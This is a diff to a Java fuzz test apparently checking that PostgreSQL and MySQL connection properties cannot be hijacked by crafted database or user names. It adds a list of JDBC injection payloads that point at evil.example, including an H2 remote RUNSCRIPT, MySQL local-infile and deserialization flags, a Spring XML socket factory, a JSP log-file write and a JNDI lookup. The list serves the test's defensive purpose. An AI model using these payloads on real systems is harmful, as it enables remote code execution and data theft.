@@ -4,15 +4,18 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.entry;
 
 import com.mysql.cj.conf.ConnectionUrl;
+import com.mysql.cj.conf.HostInfo;
 import io.gazetteer.common.model.DatabaseKind;
 import io.gazetteer.common.model.TlsSettings;
 import java.net.InetAddress;
+import java.util.Arrays;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Objects;
 import java.util.Properties;
 import java.util.Random;
+import java.util.stream.Stream;
 import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -26,6 +29,29 @@ class DriverPropertiesTest {
 
   private static final String SMUGGLED =
       "x?socketFactory=evil&allowLoadLocalInfile=true#/../%3F&autoDeserialize=true,(a=b)";
+
+  private static final List<String> ATTACKS =
+      List.of(
+          SMUGGLED,
+          "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+          "jdbc:h2:tcp://evil.example/~/x",
+          "h2",
+          "org.h2.Driver",
+          "jdbc:sqlite::memory:",
+          "jdbc:postgresql://evil.example:1/x?socketFactory=",
+          "jdbc:mysql://evil.example:1/x?allowLoadLocalInfile=true",
+          "?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
+              + "&socketFactoryArg=http://evil.example/x.xml",
+          "?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
+          "&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
+          "&statementInterceptors=x&detectCustomCollations=true&autoDeserialize=yes",
+          "?sslfactory=x&sslhostnameverifier=x&authenticationPluginClassName=x",
+          "address=(host=evil.example)(port=1)(allowUrlInLocalInfile=true)",
+          "(host=evil.example,port=1,user=x)",
+          "evil.example:1,evil.example:2/",
+          "%3FallowLoadLocalInfile%3Dtrue",
+          "${jndi:ldap://evil.example/x}",
+          "' host='evil.example");
 
   @Test
   void pgjdbcIsToldTheListedKeysAndNoOther() {
@@ -124,7 +150,7 @@ class DriverPropertiesTest {
     Map<Object, Object> expected = others(properties(login(kind, "db")));
     int hosts = 0;
     for (int i = 0; i < 10_000; i++) {
-      SourceAddress source = source(kind, "n" + noise(random), noise(random));
+      SourceAddress source = source(kind, "n" + noise(random), "u" + noise(random));
       try {
         source =
             new SourceAddress(
@@ -136,19 +162,25 @@ class DriverPropertiesTest {
       Properties seen =
           properties(new Login(source, CHECKED, noise(random), SourceTimeouts.defaults()));
       assertThat(others(seen)).isEqualTo(expected);
-      assertThat(hostSeenBy(kind, seen)).isEqualTo("192.0.2.7");
+      assertThat(placeSeenBy(kind, seen))
+          .containsExactly("192.0.2.7", source.dbName(), source.username());
     }
     assertThat(hosts).isPositive();
   }
 
-  private static @Nullable String hostSeenBy(DatabaseKind kind, Properties properties) {
-    return kind == DatabaseKind.POSTGRESQL
-        ? PGProperty.PG_HOST.getOrDefault(
-            Objects.requireNonNull(
-                org.postgresql.Driver.parseURL(PostgresProperties.URL, properties)))
-        : ConnectionUrl.getConnectionUrlInstance(MySqlProperties.URL, properties)
-            .getMainHost()
-            .getHost();
+  /** The host, database and user that a driver reads out of what it is given. */
+  private static List<@Nullable String> placeSeenBy(DatabaseKind kind, Properties properties) {
+    if (kind == DatabaseKind.POSTGRESQL) {
+      Properties seen =
+          Objects.requireNonNull(
+              org.postgresql.Driver.parseURL(PostgresProperties.URL, properties));
+      return Stream.of(PGProperty.PG_HOST, PGProperty.PG_DBNAME, PGProperty.USER)
+          .<@Nullable String>map(property -> property.getOrDefault(seen))
+          .toList();
+    }
+    HostInfo host =
+        ConnectionUrl.getConnectionUrlInstance(MySqlProperties.URL, properties).getMainHost();
+    return Arrays.asList(host.getHost(), host.getDatabase(), host.getUser());
   }
 
   private static Map<Object, Object> others(Properties properties) {
@@ -162,13 +194,18 @@ class DriverPropertiesTest {
     return login.isPostgres() ? PostgresProperties.of(login) : MySqlProperties.of(login);
   }
 
+  /** Characters with a meaning in URLs, and one time in two a known attack among them. */
   private static String noise(Random random) {
     StringBuilder name = new StringBuilder();
     String alphabet = "abc123.?&=#/%\\'\" ;,()-:@\n";
     for (int length = random.nextInt(40); length > 0; length--) {
       name.append(alphabet.charAt(random.nextInt(alphabet.length())));
     }
-    return name.toString();
+    return random.nextBoolean()
+        ? name.toString()
+        : name.insert(
+                random.nextInt(name.length() + 1), ATTACKS.get(random.nextInt(ATTACKS.size())))
+            .toString();
   }
 
   private static Properties postgres(String dbName) {
